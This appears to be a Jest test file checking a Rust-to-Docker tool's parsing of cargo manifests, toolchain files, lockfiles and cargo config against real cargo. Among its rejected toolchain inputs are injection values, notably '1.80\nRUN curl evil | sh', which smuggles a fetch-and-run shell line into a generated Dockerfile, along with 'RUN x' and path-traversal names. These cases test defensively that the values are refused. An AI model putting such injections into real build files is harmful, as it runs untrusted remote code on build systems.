/**
 * Manifests measured on public repositories that the reader got wrong, each checked against
 * the real cargo (the oracle): what cargo accepts loads, what it rejects is an error naming
 * the file, the problem and the fix. Cases a container build cannot take although cargo does
 * (paths outside the context, `target-dir`, a bad lockfile) are planning errors:
 * test/plan/cargo-context.test.ts.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { cargoMetadata, cleanupTemp, copyFixture, runCargo, tempDir, writeTree } from './cargo-oracle';
import { featureNameProblem, packageNameProblem, parseRustVersion } from '../../src/cargo/names';
import { findNestingProblem, parseToml } from '../../src/cargo/toml';
import { parseChannel, readToolchain } from '../../src/cargo/toolchain';
import { inspectWorkspace, loadWorkspace } from '../../src/cargo/workspace';
import { RustDockerError } from '../../src/core/errors';
import { caught } from '../support/errors';

afterAll(() => cleanupTemp());

const MAIN = 'fn main() {}\n';
const PKG = '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n';


/** Both cargo and the reader on the same tree: accepted by both, or rejected by both. */
function both(files: Record<string, string>): { cargo: boolean; error?: RustDockerError; dir: string } {
  const dir = writeTree(files);
  const cargo = runCargo(dir, ['metadata', '--no-deps', '--format-version', '1', '--offline']).status === 0;
  try {
    loadWorkspace(dir);
    return { cargo, dir };
  } catch (e) {
    expect(e).toBeInstanceOf(RustDockerError);
    return { cargo, error: e as RustDockerError, dir };
  }
}

describe('members with only tests, benches or examples load, as cargo lists them', () => {
  test.each([
    ['[[test]] harness = false only', `${PKG}[[test]]\nname = "tests"\npath = "src/tests.rs"\nharness = false\n`, { 'src/tests.rs': MAIN }, ['test:tests:src/tests.rs']],
    ['[[bench]] only', `${PKG}[[bench]]\nname = "b"\nharness = false\n`, { 'benches/b.rs': MAIN }, ['bench:b:benches/b.rs']],
    ['[[example]] only', `${PKG}[[example]]\nname = "e"\npath = "demo.rs"\n`, { 'demo.rs': MAIN }, ['example:e:demo.rs']],
    ['auto tests/*.rs only', PKG, { 'tests/a.rs': '', 'tests/b/main.rs': '' }, ['test:a:tests/a.rs', 'test:b:tests/b/main.rs']],
    ['auto benches/*.rs only', PKG, { 'benches/x.rs': MAIN }, ['bench:x:benches/x.rs']],
    ['auto examples/*.rs only', PKG, { 'examples/x.rs': MAIN }, ['example:x:examples/x.rs']],
    ['a build script and a test', `${PKG}build = "build.rs"\n`, { 'build.rs': MAIN, 'tests/t.rs': '' }, ['test:t:tests/t.rs', 'custom-build:build-script-build:build.rs']],
  ])('%s: loads, no bins, every target in `targets` so the stub layer writes them', (_name, manifest, files, targets) => {
    const r = both({ 'Cargo.toml': manifest, ...files });
    expect(r.cargo).toBe(true);
    expect(r.error).toBeUndefined();
    const [pkg] = loadWorkspace(r.dir).members;
    expect(pkg.bins).toEqual([]);
    expect(pkg.targets.map((t) => `${t.kind}:${t.name}:${t.path}`)).toEqual(targets);
  });

  test('with a lib, auto-discovered tests stay out of `targets` (cargo still has the lib)', () => {
    const ws = loadWorkspace(writeTree({ 'Cargo.toml': PKG, 'src/lib.rs': '', 'tests/t.rs': '' }));
    expect(ws.members[0].targets.map((t) => t.kind)).toEqual(['lib']);
  });

  test('cargo and the reader both reject a package whose only tests are switched off', () => {
    const r = both({ 'Cargo.toml': `${PKG}autotests = false\n`, 'tests/t.rs': '' });
    expect(r.cargo).toBe(false);
    expect(r.error?.message).toMatch(/no targets specified in the manifest/);
  });

  // The contract with the Dockerfile layer: manifests plus a stub for every `targets` entry
  // (nothing else of the sources) is a tree cargo accepts, with the same members.
  // (virtual-globs is left out: its `default-members` names an excluded directory, which cargo
  // only tolerates while that directory exists; the manifests-only tree lacks it.)
  test.each(['test-bench-example-members', 'targets-misc', 'required-features', 'multi-bin-default-run', 'root-package', 'inherit'])(
    '%s: manifests and stubs of `targets` alone satisfy cargo', (fixture) => {
      const src = copyFixture(fixture);
      const ws = loadWorkspace(src);
      const stubbed = tempDir('stub-tree-');
      const copy = (rel: string) => fs.cpSync(path.join(ws.root, rel), path.join(stubbed, rel), { recursive: true });
      [...ws.manifests, ...ws.pathDependencyDirs, ...ws.cargoConfig.sourceDirs].forEach(copy);
      for (const t of ws.members.flatMap((m) => m.targets)) {
        fs.mkdirSync(path.dirname(path.join(stubbed, t.path)), { recursive: true });
        fs.writeFileSync(path.join(stubbed, t.path), t.kind === 'lib' ? '' : MAIN);
      }
      const { meta } = cargoMetadata(stubbed);
      const names = meta.workspace_members.map((id) => meta.packages.find((p) => p.id === id)!.name).sort();
      expect(names).toEqual(ws.members.map((m) => m.name));
      for (const p of meta.packages) {
        expect(p.targets.some((t) => !t.kind.includes('custom-build'))).toBe(true);
      }
    });
});

describe('names, versions and values: accepted and rejected exactly as cargo does', () => {
  // [label, manifest additions, extra files, accepted by cargo]
  const cases: Array<[string, string, Record<string, string>, boolean]> = [
    ['package name é', PKG.replace('"p"', '"é"'), {}, true],
    ['package name with a dot', PKG.replace('"p"', '"a.b"'), {}, false],
    ['package name with a leading digit', PKG.replace('"p"', '"1a"'), {}, false],
    ['package name with a leading hyphen', PKG.replace('"p"', '"-a"'), {}, false],
    ['bin name with a dot (cargo metadata lists it)', `${PKG}[[bin]]\nname = "a.b"\npath = "src/main.rs"\n`, {}, true],
    ['bin name ../../etc/passwd (cargo metadata lists it)', `${PKG}[[bin]]\nname = "../../etc/passwd"\npath = "src/main.rs"\n`, {}, true],
    ['bin name with a newline (cargo metadata lists it)', `${PKG}[[bin]]\nname = "a\\nb"\npath = "src/main.rs"\n`, {}, true],
    ['bin name blank', `${PKG}[[bin]]\nname = " "\npath = "src/main.rs"\n`, {}, false],
    ['bin name incremental', `${PKG}[[bin]]\nname = "incremental"\npath = "src/main.rs"\n`, {}, false],
    ['example named deps (only bins are restricted)', `${PKG}[[example]]\nname = "deps"\npath = "src/main.rs"\n`, {}, true],
    ['bench name blank', `${PKG}[[bench]]\nname = ""\npath = "src/main.rs"\n`, {}, false],
    ['lib name blank', `${PKG}[lib]\nname = " "\npath = "src/main.rs"\n`, {}, false],
    ['lib name with a dot (cargo metadata lists it)', `${PKG}[lib]\nname = "a.b"\npath = "src/main.rs"\n`, {}, true],
    ['feature names 1a, a+b, a.b, é', `${PKG}[features]\n1a = []\n"a+b" = []\n"a.b" = []\n"é" = []\n`, {}, true],
    ['feature name with a slash', `${PKG}[features]\n"a/b" = []\n`, {}, false],
    ['feature name dep:x', `${PKG}[features]\n"dep:x" = []\n`, {}, false],
    ['feature name with a space', `${PKG}[features]\n"a b" = []\n`, {}, false],
    ['feature name empty', `${PKG}[features]\n"" = []\n`, {}, false],
    ['feature including itself (cargo metadata accepts it)', `${PKG}[features]\ndefault = ["default"]\n`, {}, true],
    ['feature value naming a non-optional dependency', `${PKG}[dependencies]\nh = { path = "h" }\n[features]\nx = ["h"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['feature values dep:h, h/x, h?/x, and a dev-dependency feature', `${PKG}[dependencies]\nh = { path = "h", optional = true }\n[dev-dependencies]\nd = { path = "h", package = "h" }\n[features]\na = ["dep:h"]\nb = ["h?/x"]\nc = ["d/x"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, true],
    ['feature value dep:h/x', `${PKG}[dependencies]\nh = { path = "h", optional = true }\n[features]\na = ["dep:h/x"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['feature value h/x/y', `${PKG}[dependencies]\nh = { path = "h", optional = true }\n[features]\na = ["h/x/y"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['feature value h after dep:h elsewhere', `${PKG}[dependencies]\nh = { path = "h", optional = true }\n[features]\na = ["dep:h"]\nb = ["h"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['weak feature of a non-optional dependency', `${PKG}[dependencies]\nh = { path = "h" }\n[features]\na = ["h?/x"]\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['dependency renamed to an invalid package', `${PKG}[dependencies]\nh = { path = "h", package = "a b" }\n`, { 'h/Cargo.toml': '[package]\nname = "h"\n', 'h/src/lib.rs': '' }, false],
    ['required-features of anything (cargo metadata does not check them)', `${PKG}[[bin]]\nname = "b"\npath = "src/main.rs"\nrequired-features = ["dep:x", "x?/y", "nope/z", "a b"]\n`, {}, true],
    ['rust-version 1', `${PKG.replace('edition = "2021"\n', '')}rust-version = "1"\n`, {}, true],
    ['rust-version 1.80.1 with spaces around it', `${PKG}rust-version = " 1.80.1 "\n`, {}, true],
    ['rust-version with a tab', `${PKG}rust-version = "\\t1.80"\n`, {}, false],
    ['rust-version 1.80.x', `${PKG}rust-version = "1.80.x"\n`, {}, false],
    ['rust-version ^1.80', `${PKG}rust-version = "^1.80"\n`, {}, false],
    ['rust-version 1.80+build', `${PKG}rust-version = "1.80.0+build"\n`, {}, false],
    ['rust-version with a leading zero', `${PKG}rust-version = "1.080"\n`, {}, false],
    ['rust-version as a number', `${PKG}rust-version = 1.80\n`, {}, false],
    ['rust-version 1.84 on edition 2024', `${PKG.replace('2021', '2024')}rust-version = "1.84"\n`, {}, false],
    ['rust-version 1.85 on edition 2024', `${PKG.replace('2021', '2024')}rust-version = "1.85"\n`, {}, true],
    ['rust-version inherited and too old for the edition', '[workspace]\n[workspace.package]\nrust-version = "1.30"\n[package]\nname = "p"\nedition = "2018"\nrust-version.workspace = true\n', {}, false],
    ['default-run naming the bin', `${PKG}default-run = "p"\n`, {}, true],
    ['default-run naming an example', `${PKG}default-run = "e"\n[[example]]\nname = "e"\npath = "src/main.rs"\n`, {}, false],
    ['default-run empty', `${PKG}default-run = ""\n`, {}, false],
    ['description with an escaped NUL', `${PKG}description = "a\\u0000b"\n`, {}, true],
    ['arrays 80 deep', `${PKG}[package.metadata]\nx = ${'['.repeat(80)}${']'.repeat(80)}\n`, {}, true],
    ['arrays 81 deep', `${PKG}[package.metadata]\nx = ${'['.repeat(81)}${']'.repeat(81)}\n`, {}, false],
    ['inline tables 81 deep', `${PKG}[package.metadata]\nx = ${'{a='.repeat(81)}1${'}'.repeat(81)}\n`, {}, false],
    ['arrays of inline tables 80 deep', `${PKG}[package.metadata]\nx = ${'[{a='.repeat(40)}1${'}]'.repeat(40)}\n`, {}, true],
    ['a dotted key of 80 parts inside 40 inline tables', `${PKG}[package.metadata]\nx = ${'{a='.repeat(40)}{${Array(80).fill('k').join('.')} = 1}${'}'.repeat(40)}\n`, {}, true],
    ['a table header of 81 parts', `${PKG}[${Array(81).fill('k').join('.')}]\nx = 1\n`, {}, false],
    ['brackets in strings and comments do not nest', `${PKG}[package.metadata]\nx = ["${'['.repeat(100)}", '${'{'.repeat(100)}'] # ${'['.repeat(100)}\ny = """\n${'['.repeat(100)}"""\n`, {}, true],
  ];

  test.each(cases)('%s', (_label, manifest, files, accepted) => {
    const r = both({ 'Cargo.toml': manifest, 'src/main.rs': MAIN, ...files });
    expect(r.cargo).toBe(accepted);
    if (accepted) {
      expect(r.error).toBeUndefined();
    } else {
      const e = r.error!;
      expect(e).toBeDefined();
      expect(e.file).toBe(path.join(r.dir, 'Cargo.toml'));
      expect(e.problem).toMatch(/[.)]$|\n/);
      expect(e.fix).toBeTruthy();
    }
  });

  test('the reader reports rust-version as cargo metadata does (spaces dropped)', () => {
    const dir = writeTree({ 'Cargo.toml': `${PKG}rust-version = " 1.80.1 "\n`, 'src/main.rs': MAIN });
    expect(cargoMetadata(dir).meta.packages[0].rust_version).toBe('1.80.1');
    expect(loadWorkspace(dir).members[0].rustVersion).toBe('1.80.1');
  });

  test('a NUL in the description is kept, as cargo metadata keeps it', () => {
    const dir = writeTree({ 'Cargo.toml': `${PKG}description = "a\\u0000b"\n`, 'src/main.rs': MAIN });
    expect(cargoMetadata(dir).meta.packages[0].description).toBe('a\u0000b');
    expect(loadWorkspace(dir).members[0].description).toBe('a\u0000b');
  });

  test('the dependencies are in the model, with kind and optional', () => {
    const ws = loadWorkspace(writeTree({
      'Cargo.toml': `${PKG}[dependencies]\nh = { path = "h", optional = true }\n[build-dependencies]\nb = { path = "h", package = "h" }\n[target.'cfg(unix)'.dev-dependencies]\nd = { path = "h", package = "h" }\n`,
      'src/main.rs': MAIN,
      'h/Cargo.toml': '[package]\nname = "h"\n',
      'h/src/lib.rs': '',
    }));
    expect(ws.members[0].dependencies).toEqual([
      { name: 'h', kind: 'normal', optional: true },
      { name: 'b', kind: 'build', optional: false },
      { name: 'd', kind: 'dev', optional: false },
    ]);
    expect(ws.members[0].features).toEqual(['h']);
  });

  test('rules in isolation', () => {
    expect(packageNameProblem('ok_name-1')).toBeNull();
    expect(packageNameProblem('')).toBe('package name cannot be empty.');
    expect(featureNameProblem('1.0+x')).toBeNull();
    expect(featureNameProblem('.x')).toMatch(/first character/);
    expect(parseRustVersion('1.2.3')).toEqual({ ok: true, version: '1.2.3', parts: [BigInt(1), BigInt(2), BigInt(3)] });
    expect(parseRustVersion('18446744073709551616')).toMatchObject({ ok: false });
    expect(parseRustVersion('1.2.3.4')).toMatchObject({ ok: false });
  });
});

describe('TOML nested deeper than cargo allows: a clear error, never a stack overflow', () => {
  test('arrays 20,000 deep: the file, the line, the column and the limit', () => {
    const text = `${PKG}[package.metadata]\nx = ${'['.repeat(20000)}${']'.repeat(20000)}\n`;
    const e = caught(() => parseToml(text, '/w/Cargo.toml'));
    expect([e.file, e.line, e.column]).toEqual(['/w/Cargo.toml', 6, 85]);
    expect(e.problem).toBe('arrays and inline tables nest more than 80 levels deep here; cargo stops at 80 ("cannot recurse further; max recursion depth met").');
    expect(e.fix).toBe('Flatten the value or shorten the key (cargo rejects this file as well).');
    expect(e.message.length).toBeLessThan(300);
  });

  test('200,000 deep inline tables and a 20,000-part dotted key are rejected as well', () => {
    expect(caught(() => parseToml(`x = ${'{a='.repeat(200000)}1${'}'.repeat(200000)}\n`, 'f')).problem).toMatch(/nest more than 80 levels/);
    expect(caught(() => parseToml(`${Array(20000).fill('k').join('.')} = 1\n`, 'f')).problem).toMatch(/more than 80 dotted parts/);
  });

  test('the scanner stops on any text, valid TOML or not', () => {
    for (const text of ['"unterminated', '[[', 'a = [', 'a = """x', '\'', 'x = {', '[a.', 'a."b', '#[[[[']) {
      expect(findNestingProblem(text)).toBeNull();
    }
  });
});

describe('toolchain files: rustup\'s channel grammar, plain component and target names', () => {
  test.each([
    'stable', 'beta', 'nightly', '1.80', '1.80.1', '1.80.0-beta', '1.80.0-beta.2', 'nightly-2024-05-01',
    '1.80-x86_64-unknown-linux-gnu', 'stable-aarch64-unknown-linux-musl', 'nightly-2024-05-01-x86_64-unknown-linux-gnu', 'stable-gnu',
  ])('channel %s is accepted', (channel) => {
    expect(readToolchain(writeTree({ 'rust-toolchain.toml': `[toolchain]\nchannel = "${channel}"\n` })).channel).toBe(channel);
    expect(readToolchain(writeTree({ 'rust-toolchain': `${channel}\n` })).channel).toBe(channel);
  });

  test('parseChannel splits name, date and host', () => {
    expect(parseChannel('nightly-2024-05-01-x86_64-unknown-linux-gnu')).toEqual({ name: 'nightly', date: '2024-05-01', host: 'x86_64-unknown-linux-gnu' });
    expect(parseChannel('1.80')).toEqual({ name: '1.80', date: null, host: null });
    expect(parseChannel('latest')).toBeNull();
  });

  test.each([
    ['latest', /"latest" is not an official toolchain name: rustup takes it for a custom toolchain/],
    ['', /the toolchain file|`toolchain.channel` "" is not an official toolchain name/],
    ['stable\\n', /"stable\\n" contains a line break/],
    ['1.80\\nRUN curl evil | sh', /contains a line break/],
    ['${{ x }}', /"\$\{\{ x \}\}" is not an official toolchain name/],
    [' stable', /" stable" is not an official toolchain name/],
    ['10.1', /not an official toolchain name/],
    ['nightly-2024-5-1', /not an official toolchain name/],
    ['stable-x86_64 unknown', /not an official toolchain name/],
  ])('rust-toolchain.toml channel %j is an error naming the file', (channel, message) => {
    const dir = writeTree({ 'rust-toolchain.toml': `[toolchain]\nchannel = "${channel}"\n` });
    const e = caught(() => readToolchain(dir));
    expect(e.file).toBe(path.join(dir, 'rust-toolchain.toml'));
    expect(e.message).toMatch(message);
    expect(e.fix).toMatch(/^Use `stable`, `beta`, `nightly`|^Add `\[toolchain\]`/);
  });

  test('a legacy file is trimmed as Rust trims (a byte order mark stays, and is refused)', () => {
    expect(readToolchain(writeTree({ 'rust-toolchain': ' 1.80 \r\n' })).channel).toBe('1.80');
    expect(caught(() => readToolchain(writeTree({ 'rust-toolchain': '\ufeffstable\n' }))).message).toMatch(/not an official toolchain name/);
  });

  test.each([
    ['components', '"rust src"', /`toolchain\.components` entry "rust src" is not a component name/],
    ['components', '"clippy\\nRUN x"', /`toolchain\.components` entry "clippy\\nRUN x" is not a component name/],
    ['targets', '"$HOST"', /`toolchain\.targets` entry "\$HOST" is not a target name/],
    ['targets', '"-x"', /is not a target name/],
  ])('%s entry %s is an error naming the file', (key, value, message) => {
    const dir = writeTree({ 'rust-toolchain.toml': `[toolchain]\nchannel = "stable"\n${key} = [${value}]\n` });
    const e = caught(() => readToolchain(dir));
    expect(e.file).toBe(path.join(dir, 'rust-toolchain.toml'));
    expect(e.message).toMatch(message);
  });

  test('plain components and targets pass', () => {
    expect(readToolchain(writeTree({
      'rust-toolchain.toml': '[toolchain]\nchannel = "1.80"\ncomponents = ["rust-src", "llvm-tools-preview"]\ntargets = ["thumbv8m.main-none-eabi", "wasm32-wasip1"]\n',
    }))).toMatchObject({ components: ['rust-src', 'llvm-tools-preview'], targets: ['thumbv8m.main-none-eabi', 'wasm32-wasip1'] });
  });

  test('rustup\'s other refusals: channel with path, an unknown profile', () => {
    expect(caught(() => readToolchain(writeTree({ 'rust-toolchain.toml': '[toolchain]\nchannel = "stable"\npath = "/opt/rust"\n' }))).message)
      .toMatch(/`toolchain\.channel` and `toolchain\.path` are both set/);
    expect(caught(() => readToolchain(writeTree({ 'rust-toolchain.toml': '[toolchain]\nchannel = "stable"\nprofile = "weird"\n' }))).message)
      .toMatch(/`toolchain\.profile` "weird" is not a rustup profile/);
    expect(readToolchain(writeTree({ 'rust-toolchain.toml': '[toolchain]\npath = "/opt/rust"\n' })).path).toBe('/opt/rust');
  });
});

describe('Cargo.lock is read for planning, never an error of the reader (cargo metadata --no-deps ignores it)', () => {
  const files = { 'Cargo.toml': PKG, 'src/main.rs': MAIN };

  test.each([
    ['empty', '', { packages: [] }],
    ['version only', 'version = 4\n', { packages: [] }],
    ['packages', 'version = 4\n\n[[package]]\nname = "p"\nversion = "0.1.0"\ndependencies = [\n "serde",\n]\n\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
      { packages: [{ name: 'p', version: '0.1.0', dependencies: ['serde'] }, { name: 'serde', version: '1.0.0', dependencies: [] }] }],
    ['a package without version', '[[package]]\nname = "p"\n', { packages: [], problem: { message: '`[[package]]` number 1 has no string `name` and `version`.' } }],
  ])('%s', (_name, lock, expected) => {
    const dir = writeTree({ ...files, 'Cargo.lock': lock });
    expect(runCargo(dir, ['metadata', '--no-deps', '--format-version', '1', '--offline']).status).toBe(0);
    expect(loadWorkspace(dir).lock).toEqual(expected);
  });

  test('invalid TOML: the problem and its position, no exception', () => {
    const ws = loadWorkspace(writeTree({ ...files, 'Cargo.lock': 'version = 4\n[[package]\n' }));
    expect(ws.lockfile).toBe('Cargo.lock');
    expect(ws.lock?.packages).toEqual([]);
    expect(ws.lock?.problem).toMatchObject({ line: 2 });
    expect(ws.lock?.problem?.message).toMatch(/^invalid TOML: /);
  });

  test('no Cargo.lock: null', () => {
    expect(loadWorkspace(writeTree(files)).lock).toBeNull();
  });
});

describe('.cargo/config.toml [build] keys that move the binaries are read into the model', () => {
  /** `cargo metadata` reports the target directory cargo would use (only without CARGO_TARGET_DIR). */
  function cargoTargetDirectory(dir: string): string {
    const env = { ...process.env };
    delete env.CARGO_TARGET_DIR;
    delete env.CARGO_BUILD_TARGET_DIR;
    const r = spawnSync('cargo', ['metadata', '--no-deps', '--format-version', '1', '--offline'], { cwd: dir, env, encoding: 'utf8' });
    expect(r.status).toBe(0);
    return (JSON.parse(r.stdout) as { target_directory: string }).target_directory;
  }

  test.each([
    ['relative', 'target-dir = "build/out"', 'build/out'],
    ['leaving the root', 'target-dir = "../shared-target"', '../shared-target'],
  ])('target-dir %s: relative to the directory holding .cargo/, as cargo resolves it', (_name, line, expected) => {
    const dir = writeTree({ 'Cargo.toml': PKG, 'src/main.rs': MAIN, '.cargo/config.toml': `[build]\n${line}\n` });
    const ws = loadWorkspace(dir);
    expect(ws.cargoConfig.targetDir).toBe(expected);
    expect(path.relative(fs.realpathSync(dir), path.resolve(cargoTargetDirectory(dir))).split(path.sep).join('/')).toBe(expected);
  });

  test('an absolute target-dir is kept (relative to the root in the model)', () => {
    const outside = tempDir('target-elsewhere-');
    const dir = writeTree({ 'Cargo.toml': PKG, 'src/main.rs': MAIN, '.cargo/config.toml': `[build]\ntarget-dir = ${JSON.stringify(outside)}\n` });
    expect(path.resolve(dir, loadWorkspace(dir).cargoConfig.targetDir!)).toBe(outside);
    expect(cargoTargetDirectory(dir)).toBe(outside);
  });

  test('build.target: a string or an array; absent: none', () => {
    const config = (build: string) => loadWorkspace(writeTree({ 'Cargo.toml': PKG, 'src/main.rs': MAIN, '.cargo/config.toml': `[build]\n${build}\n` })).cargoConfig;
    expect(config('target = "x86_64-unknown-linux-musl"')).toMatchObject({ buildTargets: ['x86_64-unknown-linux-musl'], targetDir: null });
    expect(config('target = ["a-b-c", "d-e-f"]').buildTargets).toEqual(['a-b-c', 'd-e-f']);
    expect(config('jobs = 2').buildTargets).toEqual([]);
  });

  test('inspectWorkspace and loadWorkspace agree', () => {
    const dir = writeTree({ 'Cargo.toml': PKG, 'src/main.rs': MAIN, '.cargo/config.toml': '[build]\ntarget-dir = "t"\n' });
    expect(inspectWorkspace(dir).workspace).toEqual(loadWorkspace(dir));
  });
});
